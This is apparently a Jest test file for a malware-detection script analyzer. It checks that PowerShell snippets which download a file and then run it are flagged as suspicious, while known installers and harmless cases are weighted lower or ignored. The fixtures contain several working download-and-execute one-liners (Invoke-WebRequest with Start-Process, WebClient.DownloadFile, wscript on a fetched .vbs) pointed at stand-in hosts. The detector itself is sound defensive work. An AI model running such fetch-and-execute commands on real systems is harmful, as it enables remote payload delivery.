import { analyzeScript } from './analyze-script.js';
import type { ScriptFact } from './script-analysis.js';

const started = (text: string): ScriptFact | undefined => analyzeScript(Buffer.from(text), { language: 'powershell' }).facts.find(({ rule }) => rule === 'runs-what-it-fetched');

describe('powershellChains', () => {
  it.each([
    ['-OutFile and Start-Process', `Invoke-WebRequest http://a.example.test/a -OutFile "$env:TEMP\\a.scr"\nStart-Process "$env:TEMP\\a.scr"`],
    ['DownloadFile and the call operator', `$f = "$env:PUBLIC\\" + 'q.exe'; (New-Object Net.WebClient).DownloadFile('http://a.example.test/q', $f); & $f`],
    ['bytes written and a script host', `$b = (iwr http://a.example.test/d).Content; [IO.File]::WriteAllBytes("$env:TEMP\\n.vbs", $b); wscript //B "$env:TEMP\\n.vbs"`],
    ['a bare address', `iwr http://192.0.2.8/t.exe -OutFile C:\\Tools\\t.exe; C:\\Tools\\t.exe -q`],
  ])('says that what was fetched is started: %s', (_name, script) => {
    expect(started(script)).toMatchObject({ weight: 'suspicious', techniques: ['T1105'] });
  });

  it.each([
    ['of a known publisher', `iwr https://nodejs.org/dist/n.exe -OutFile "$env:TEMP\\n.exe"; Start-Process "$env:TEMP\\n.exe"`],
    ['that somebody waits for', `iwr https://a.example.test/setup.exe -OutFile "$env:TEMP\\setup.exe"\nStart-Process "$env:TEMP\\setup.exe" -ArgumentList '/S' -Wait`],
  ])('takes an installer %s for one', (_name, script) => {
    expect(started(script)?.weight).toBe('notable');
  });

  it.each([
    ['another file is started', `iwr http://a.example.test/a.exe -OutFile "$env:TEMP\\a.exe"; Start-Process notepad.exe`],
    ['it is deleted', `iwr http://a.example.test/a.exe -OutFile "$env:TEMP\\a.exe"; Remove-Item "$env:TEMP\\a.exe"`],
    ['nothing was fetched', `Set-Content "$env:TEMP\\a.cmd" 'ver'; & "$env:TEMP\\a.cmd"`],
  ])('says nothing when %s', (_name, script) => {
    expect(started(script)).toBeUndefined();
  });
});
